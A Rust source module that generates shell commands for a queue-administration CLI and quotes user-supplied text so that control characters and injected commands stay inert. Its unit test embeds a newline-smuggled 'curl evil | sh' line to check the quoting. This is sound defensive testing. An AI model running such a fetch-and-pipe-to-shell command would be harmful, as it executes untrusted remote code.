//! The same change by the command line.

use crate::{
    call::{Call, Query},
    config::AlgorithmName,
};

/// A word for a shell; `None` for one that no command can be given. Whoever enqueued a job, or named a subject, chose the text,
/// and a terminal obeys control characters that are pasted: they are written as escapes, which bash, zsh, ksh and every
/// shell of POSIX 2024 understand.
pub(super) fn quoted(text: &str) -> Option<String> {
    if text.contains('\0') {
        return None;
    }
    if !text.contains(steers) {
        return Some(format!("'{}'", text.replace('\'', "'\\''")));
    }
    let mut word = String::from("$'");
    for c in text.chars() {
        match c {
            '\'' | '\\' => word.extend(['\\', c]),
            c if steers(c) => {
                // In octal: the digits of a hexadecimal escape have no end in some shells.
                for byte in c.to_string().bytes() {
                    word += &format!("\\{byte:03o}");
                }
            }
            c => word.push(c),
        }
    }
    word.push('\'');
    Some(word)
}

/// Whether a terminal does something else with it than show it.
fn steers(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// The `redstart` command for an action. Values are joined to their options by `=`, so that one with a dash in front is
/// not taken for an option.
pub(super) fn command(
    call: &Call,
    namespace: &str,
    action: &str,
    form: &Query,
    job: (&str, &str),
    holder: Option<&str>,
) -> Option<String> {
    let option =
        |option: &str, field: &str| Some(format!("--{option}={}", quoted(form.given(field)?)?));
    let (pattern, _) = action.split_once('.')?;
    let name = option("name", if pattern == "queue" { "queue" } else { "name" })?;
    let what = match action {
        "queue.pause" => "pause".to_owned(),
        "queue.resume" => "resume".to_owned(),
        "queue.cancel" => format!("cancel --yes {}", quoted(form.given("job")?)?),
        "queue.run-now" => format!("run-now {}", quoted(form.given("job")?)?),
        "queue.delete" => format!("delete --yes {}", quoted(form.given("job")?)?),
        "queue.add" => format!("add -- {} {}", quoted(job.0)?, quoted(job.1)?),
        "queue.replay" => format!("retry {}", letters(form)?),
        "queue.purge" => format!("purge --yes {}", letters(form)?),
        "lock.force-release" => format!("force-release --yes --holder={}", quoted(holder?)?),
        "breaker.force-open" => "force-open --yes --for=60".to_owned(),
        "breaker.reset" => "reset --yes".to_owned(),
        "cache.invalidate" => {
            let chosen = option("key", "key").or_else(|| option("tag", "tag"));
            format!("invalidate --yes {}", chosen?)
        }
        "session.revoke" => {
            let (user, handle) = (option("user", "user")?, option("handle", "handle")?);
            format!("revoke --yes {user} {handle}")
        }
        "session.revoke-all" => format!("revoke --yes --all {}", option("user", "user")?),
        "limiter.reset" => {
            let limit = limit(call, form.given("name")?)?;
            format!("reset --yes {limit} -- {}", quoted(form.given("subject")?)?)
        }
        _ => return None,
    };
    let namespace = quoted(namespace)?;
    Some(format!(
        "redstart {pattern} --url \"$REDSTART_URL\" --namespace={namespace} {name} {what}"
    ))
}

fn letters(form: &Query) -> Option<String> {
    match (form.given("letter"), form.given("group")) {
        (Some(letter), _) => Some(format!("--letter={}", quoted(letter)?)),
        (None, group) => Some(format!("--group={}", quoted(group?)?)),
    }
}

/// What makes the keys of a limiter: its settings.
fn limit(call: &Call, name: &str) -> Option<String> {
    let limiter = call.config.limiter.get(name)?;
    let algorithm = match limiter.algorithm {
        AlgorithmName::TokenBucket => "token-bucket",
        AlgorithmName::FixedWindow => "fixed-window",
        AlgorithmName::SlidingWindow => "sliding-window",
        AlgorithmName::SlidingCounter => "sliding-counter",
    };
    let mut limit = format!("--algorithm={algorithm} --quota={}", limiter.quota);
    if let Some(burst) = limiter.burst {
        limit += &format!(" --burst={burst}");
    }
    if limiter.refundable {
        limit += " --refundable";
    }
    Some(limit)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_control_character_reaches_a_terminal_and_the_word_is_the_same() {
        assert_eq!(quoted("it's").as_deref(), Some("'it'\\''s'"));
        assert_eq!(quoted("a\0b"), None, "no argument can have it");
        let all = ('\u{1}'..='\u{a0}').chain(['\u{202e}', '\u{2067}', '\u{2028}', 'ä', '🦊']);
        for c in all {
            let text = format!("it's \\ {c}1\ncurl evil | sh");
            let word = quoted(&text).expect("a word");
            assert!(!word.contains(steers), "{word:?}");
            let shell = std::process::Command::new("bash")
                .args(["-c", &format!("printf %s {word}")])
                .env("LC_ALL", "C.UTF-8")
                .output()
                .expect("bash runs");
            assert_eq!(String::from_utf8_lossy(&shell.stdout), text, "{word:?}");
        }
    }
}
